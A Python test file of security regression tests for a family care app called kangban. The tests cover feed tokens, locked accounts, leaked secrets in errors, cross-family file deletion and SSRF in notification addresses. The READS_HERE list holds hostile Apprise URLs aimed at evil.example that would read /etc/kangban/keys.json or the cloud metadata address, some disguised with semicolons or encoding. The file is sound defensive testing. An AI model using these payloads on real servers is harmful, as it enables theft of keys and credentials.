"""Ways in that a second, hostile reading of the doors found: each was open once."""

from __future__ import annotations

import threading
import traceback
from hashlib import sha256
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import msgspec
import pytest

from kangban.adapters.apprise_messenger import AppriseMessenger, check_address, hosts_in
from kangban.adapters.store.engine import read_url
from kangban.app import in_family
from kangban.clinical.access import system_actor
from kangban.clinical.notice import Notice
from kangban.journeys.accounts.feeds import actor_of_feed, make_feed
from kangban.journeys.accounts.inviting import invite, join
from kangban.journeys.accounts.memberships import end_membership
from kangban.journeys.accounts.resetting import reset_link, reset_password
from kangban.journeys.attachments import Upload, keep
from kangban.journeys.delivering import deliver
from kangban.journeys.family import delete
from kangban.journeys.house import seen_by
from kangban.journeys.reviewing.people import reviewers
from kangban.kernel.errors import InvalidInput, NotFound, SettingsRefused, Unavailable
from kangban.settings import read_settings
from tests.support.gates import OTHER, actor_named, started, with_person
from tests.support.reviews import FAMILY, NOW, practice
from tests.support.two_families import OTHER as NEIGHBOURS
from tests.support.two_families import town


async def test_a_calendar_address_dies_with_the_password_it_was_made_under() -> None:
    gate, manager = await started()
    made = await with_person(gate, manager, "mama", "adult")
    token, _ = await make_feed(gate, await actor_named(gate, "mama"), "stolen phone")
    assert await actor_of_feed(gate, token) is not None
    await reset_password(gate, await reset_link(gate, manager, made.id), OTHER)
    assert await actor_of_feed(gate, token) is None


async def test_a_calendar_address_does_not_come_back_with_a_new_place() -> None:
    gate, manager = await started()
    made = await with_person(gate, manager, "mama", "adult")
    mama = await actor_named(gate, "mama")
    token, _ = await make_feed(gate, mama, "phone")
    [place] = await gate.accounts.memberships(account_id=made.id)
    await end_membership(gate, manager, place.id)
    await join(gate, mama, await invite(gate, manager, role="adult"))
    assert await actor_of_feed(gate, token) is None


@pytest.mark.parametrize(
    "address",
    [
        "postgresql://kangban:planted@word:secret@host/db",
        "postgresql://kangban:pw@host:planted/db",
        "planted-secret",
    ],
)
def test_a_database_address_that_cannot_be_read_is_not_quoted(address: str) -> None:
    with pytest.raises(SettingsRefused) as caught:
        read_url(address)
    told = "".join(traceback.format_exception(caught.value, limit=0))
    assert "planted" not in told
    assert "secret" not in told


async def test_a_reviewer_an_administrator_locked_out_is_no_reviewer(tmp_path: Path) -> None:
    async with practice("memory", tmp_path) as family:
        assert await reviewers(family.system)
        for one in await family.system.accounts.accounts():
            await family.system.accounts.change_account(msgspec.structs.replace(one, locked=True))
        assert await reviewers(family.system) == []


async def test_nothing_is_pushed_to_somebody_who_was_locked_out(tmp_path: Path) -> None:
    class Post:
        sent = 0

        async def send(self, address: str, title: str, text: str) -> None:
            self.sent += len((address, title, text))

    async with practice("memory", tmp_path, urls={"dr": "json://dr.example/secret"}) as family:
        account = await family.doors.accounts.find_account(id="dr")
        assert account is not None
        await family.doors.accounts.change_account(msgspec.structs.replace(account, locked=True))
        await family.doors.notices.put([Notice("n", FAMILY, "dr", "review.notice.held", NOW, path="/review/x")])
        post = Post()
        await deliver(family.opened.gate, post)
        assert post.sent == 0


# What makes Apprise read a file of the server, or fetch a page, and send it to whoever wrote the address.
READS_HERE = (
    "workflow://evil.example:443/WORKFLOWID/SIG/?template=/etc/kangban/keys.json",
    "workflow://evil.example:443/WORKFLOWID/SIG/?a=b;template=/etc/kangban/keys.json",
    "workflow://evil.example:443/WORKFLOWID/SIG/?%74emplate=/etc/kangban/keys.json",
    "discord://4174216298/JHMHI8qBe7bk2ZwO5U711o3dV_js?Template=http://169.254.169.254/latest",
    "tgram://123456789:abcdefg_hijklmnop-qrstuvwxyz12345/12315544/?template=/etc/kangban/keys.json",
    "fcm://project/token?keyfile=/etc/kangban/keys.json&mode=oauth2",
    "vapid://a@evil.example/?keyfile=/etc/kangban/keys.json",
    "vapid://a@evil.example/b@evil.example?subfile=http://169.254.169.254/latest",
    "mailto://u:p@evil.example?pgp=encrypt&pgppub=/etc/kangban/keys.json",
    "mailto://u:p@evil.example?pgp=sign&pgpprv=http://169.254.169.254/latest",
    "mailto://u:p@evil.example?wkd=yes",
)


@pytest.mark.parametrize("address", READS_HERE)
async def test_an_address_does_not_make_the_server_read_its_own_files(address: str) -> None:
    with pytest.raises(InvalidInput):
        check_address(address)
    with pytest.raises(Unavailable):
        await AppriseMessenger().send(address, "康伴", "a")


@pytest.mark.parametrize("between", ["&", ";", "&x;", ";%20"])
def test_a_host_hidden_behind_a_semicolon_is_found(between: str) -> None:
    found = hosts_in(f"mailto://u:p@mail.example?a=b{between}smtp=127.0.0.1")
    assert ("127.0.0.1", None) in found


def test_a_host_in_a_whole_address_is_found() -> None:
    assert ("127.0.0.1", 81) in hosts_in("ntfy://ntfy.sh/topic?attach=http://127.0.0.1:81/x")


@pytest.mark.parametrize("asked", ["", "?redirect=yes"])
async def test_a_service_does_not_send_the_server_on_to_another_place(asked: str) -> None:
    seen: list[str] = []

    class Evil(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            seen.append(self.path)
            self.send_response(200)
            self.end_headers()

        def do_POST(self) -> None:
            self.send_response(302)
            self.send_header("Location", "/inside")
            self.end_headers()

        def log_message(self, format: str, *args: object) -> None:
            """Nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Evil)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        with pytest.raises(Unavailable):
            await AppriseMessenger().send(f"json://127.0.0.1:{server.server_port}/box{asked}", "康伴", "a")
    finally:
        server.shutdown()
        thread.join()
        server.server_close()
    assert seen == []


async def test_a_family_does_not_erase_a_file_another_family_keeps_too() -> None:
    async with town() as here:
        house = here.family.system
        beside = seen_by(in_family(house, NEIGHBOURS), system_actor(NEIGHBOURS))
        for one, member in ((house, here.ids["nainai"]), (beside, here.ids["x_member"])):
            kept = await keep(one, member, [Upload("leaflet.txt", b"the same leaflet")])
            await one.store.append([each.entry for each in kept])
        digest = sha256(b"the same leaflet").hexdigest()
        await delete(beside, here.ids["x_member"])
        assert await house.blobs.get(digest) == b"the same leaflet"
        await delete(house, here.ids["nainai"])
        with pytest.raises(NotFound):
            await house.blobs.get(digest)


@pytest.mark.parametrize("host", ["127.evil.example", "127.0.0.1.evil.example"])
def test_a_name_that_begins_like_this_machine_is_not_this_machine(host: str, tmp_path: Path) -> None:
    env = {"KANGBAN_MODEL_URL": f"https://{host}/v1", "KANGBAN_MODEL_NAME": "m"}
    model = read_settings(data_dir=tmp_path, environ=env).model
    assert model is not None
    assert model.place == "abroad"
